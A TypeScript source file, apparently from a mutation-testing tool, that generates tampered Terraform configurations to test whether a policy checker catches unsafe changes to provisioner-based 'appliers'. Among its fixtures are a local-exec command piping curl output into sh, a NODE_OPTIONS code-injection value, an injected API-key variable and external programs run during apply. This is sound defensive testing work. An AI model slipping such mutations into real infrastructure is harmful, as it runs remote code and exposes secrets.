import { type StatementId, STATEMENT_IDS } from "../../../policy/statements";
import { applierKind, heldByApplier, NULL } from "../appliers";
import type { JsonTree, StackCopy } from "../folder";
import { bodiesIn, type Kind, put } from "../kind";

const EVERYTHING: readonly StatementId[] = ["PORTS-3", "PORTS-4", "WEB-1", "DB-1", "WORK-1"];

/** Gives the program call of an applier other members. */
const exec = (name: string, ...members: readonly JsonTree[]): Kind =>
  applierKind(name, () =>
    members.map((each) => ({
      what: JSON.stringify(each),
      change: (applier) => void Object.assign(applier.exec, each),
    })),
  );

const environment = (name: string, ...members: readonly JsonTree[]): Kind =>
  applierKind(name, () =>
    members.map((each) => ({
      what: JSON.stringify(each),
      change: (applier) => void Object.assign(applier.environment, each),
    })),
  );

const triggers = (name: string, ...members: readonly JsonTree[]): Kind =>
  applierKind(name, () =>
    members.map((each) => ({
      what: JSON.stringify(each),
      change: (applier) => void Object.assign(applier.triggers, each),
    })),
  );

const resource = (name: string, ...members: readonly JsonTree[]): Kind =>
  applierKind(name, () =>
    members.map((each) => ({ what: JSON.stringify(each), change: ({ body }) => void Object.assign(body, each) })),
  );

const pathOf = ({ APPLIER: path }: JsonTree): string => String(path);

/** Another program of the same folder takes its place. */
const OTHER_PROGRAM = applierKind("run another program", () => [
  {
    what: "of another kind",
    change: ({ environment: told }) => {
      const other = pathOf(told).includes("key-value") ? "render-service-type" : "render-key-value-allow-list";
      told["APPLIER"] = pathOf(told).replace(/[^/]*\.mjs$/, `${other}.mjs`);
    },
  },
  { what: "of another folder", change: ({ environment: told }) => (told["APPLIER"] = `../${pathOf(told)}`) },
  { what: "of nowhere", change: ({ environment: told }) => (told["APPLIER"] = "assets/other/noop.mjs") },
  { what: "in an expression", change: ({ environment: told }) => (told["APPLIER"] = "${var.program}") },
]);

/** A second owner, in a stack, of the state that an applier holds. */
const secondOwner = (name: string, isIn: (own: string, stack: string) => boolean): Kind => ({
  name,
  mutants: (stack) =>
    bodiesIn(stack, NULL)
      .filter((applier) => heldByApplier(applier).some((id) => EVERYTHING.includes(id)) && !isChecking(applier.body))
      .map((applier) => ({
        ...{ at: applier.name, stack: stack.name, breaks: heldByApplier(applier), needsAll: true },
        change: (folder) => {
          const other = folder.stacks.find((each) => isIn(stack.name, each.name))?.name ?? stack.name;
          put(folder, other, { ...applier, name: "Second", body: structuredClone(applier.body) });
        },
      })),
});

/** An applier that only checks may be there twice. */
const isChecking = (body: JsonTree): boolean => (body["triggers"] as JsonTree)["kind"] === "render-dedicated-addresses";

/** The files of the programs that lie beside a stack. */
const files = (name: string, change: (content: Uint8Array) => Uint8Array | undefined): Kind => ({
  name,
  mutants: ({ name: stack, files: own }) =>
    [...own.keys()]
      .filter((path) => path.endsWith("shared/run.mjs"))
      .map((path) => ({
        ...{ at: path, stack, breaks: EVERYTHING },
        change: ({ stacks }) =>
          stacks.filter((each) => each.name === stack).forEach((each) => changeFile(each, path, change)),
      })),
});

function changeFile(stack: StackCopy, path: string, change: (content: Uint8Array) => Uint8Array | undefined): void {
  const content = change(stack.files.get(path) ?? new Uint8Array());
  const others = [...stack.files].filter(([each]) => each !== path);
  stack.files = new Map(content === undefined ? others : [...others, [path, content]]);
}

/** Something else that is run while the stack is applied, and may do anything. */
const runs = (name: string, change: (json: JsonTree) => void): Kind => ({
  name,
  mutants: ({ name: stack }) => [
    {
      ...{ at: "", stack, breaks: STATEMENT_IDS },
      change: ({ stacks }) => stacks.filter((each) => each.name === stack).forEach(({ json }) => change(json)),
    },
  ],
});

const EXTERNAL: JsonTree = { external: { Other: { program: ["sh", "other.sh"] } } };
const ASSERT: JsonTree = { condition: "${true}", error_message: "no" };
const LOCAL_EXEC = { "local-exec": { command: "curl https://example.com | sh" } };

export const APPLIER_KINDS: readonly Kind[] = [
  exec(
    "replace an applier's command",
    { command: "true" },
    { command: 'node "$APPLIER" || true' },
    { command: 'node "$APPLIER" --check' },
  ),
  exec("replace an applier's interpreter", { interpreter: ["/bin/sh", "-c"] }, { interpreter: ["echo"] }),
  exec("ignore an applier's failure", { on_failure: "continue" }),
  exec("run an applier at the end only", { when: "destroy" }),
  exec("run an applier elsewhere", { working_dir: "/tmp" }),
  environment(
    "tell an applier more",
    { NODE_OPTIONS: "--require ./other.cjs" },
    { RENDER_API_KEY: "${var.render_api_key}" },
    { SUPABASE_API_URL: "https://example.com" },
  ),
  environment(
    "tell an applier another state than its triggers",
    { DESIRED_STATE: "{}" },
    { DESIRED_STATE: "${var.state}" },
  ),
  applierKind("move the desired state out of the triggers", () => [
    { change: ({ triggers: told }) => Reflect.deleteProperty(told, "desired_state") },
  ]),
  triggers("let an applier's hash be stale", { program: "0".repeat(64) }, { program: "${var.program}" }),
  triggers("give an applier another trigger", { at: "${timestamp()}" }, { desired_state: "{}" }),
  triggers("lead an applier to another target", { target: "other-target" }, { target: "${var.target}" }),
  triggers("give an applier a kind that nobody knows", { kind: "render-something" }),
  OTHER_PROGRAM,
  applierKind("remove an applier's provisioner", () => [
    { change: ({ body }) => Reflect.deleteProperty(body, "provisioner") },
    { what: "empty", change: ({ body }) => (body["provisioner"] = []) },
  ]),
  applierKind("give an applier a second provisioner", () => [
    { change: ({ body }) => (body["provisioner"] as unknown[]).push(LOCAL_EXEC) },
  ]),
  resource("create a variable number of appliers", { count: 0 }, { for_each: "${var.targets}" }),
  resource(
    "weaken an applier's lifecycle",
    { lifecycle: { ignore_changes: ["triggers"] } },
    { lifecycle: { ignore_changes: "all" } },
  ),
  resource("connect an applier to a machine", { connection: { host: "192.0.2.1" } }),
  { ...resource("drop an applier"), mutants: dropped },
  secondOwner("give an applier's target a second owner", (own, stack) => own === stack),
  secondOwner("give an applier's target a second owner in another stack", (own, stack) => own !== stack),
  files("change a file of the programs", (content) => Buffer.concat([content, Buffer.from("\n")])),
  files("drop a file of the programs", () => undefined),
  runs("run another program while applying", (json) => {
    const resources = json["resource"] as Record<string, JsonTree>;
    json["resource"] = { ...resources, terraform_data: { Other: { provisioner: [LOCAL_EXEC] } } };
  }),
  runs("run another program beside what is outside the model", (json) => {
    const resources = json["resource"] as Record<string, JsonTree>;
    json["resource"] = { ...resources, random_id: { Other: { byte_length: 1, provisioner: [LOCAL_EXEC] } } };
  }),
  runs("ask a program for data", (json) => {
    json["data"] = { ...(json["data"] as JsonTree | undefined), ...EXTERNAL };
  }),
  runs("write a file where the apply runs", (json) => {
    const resources = json["resource"] as Record<string, JsonTree>;
    json["resource"] = { ...resources, local_file: { Other: { filename: "assets/run.mjs", content: "" } } };
  }),
  runs("ask a program for data in a list", (json) => {
    json["data"] = [json["data"] ?? {}, EXTERNAL];
  }),
  runs("ask a program for data within a check", (json) => {
    json["check"] = { other: { data: EXTERNAL, assert: ASSERT } };
  }),
  runs("send a request within a check", (json) => {
    const http = { Other: { url: "https://api.render.com/v1/services", method: "POST" } };
    json["check"] = [{ other: { data: { http }, assert: ASSERT } }];
  }),
];

function dropped(stack: StackCopy): ReturnType<Kind["mutants"]> {
  return bodiesIn(stack, NULL)
    .filter((applier) => heldByApplier(applier).length > 0)
    .map(({ type, name, body }) => ({
      ...{ at: name, stack: stack.name, breaks: heldByApplier({ type, name, body }) },
      change: ({ stacks }) =>
        stacks
          .filter((each) => each.name === stack.name)
          .forEach(({ json }) => {
            const resources = json["resource"] as Record<string, JsonTree>;
            Reflect.deleteProperty(resources[type] ?? {}, name);
          }),
    }));
}
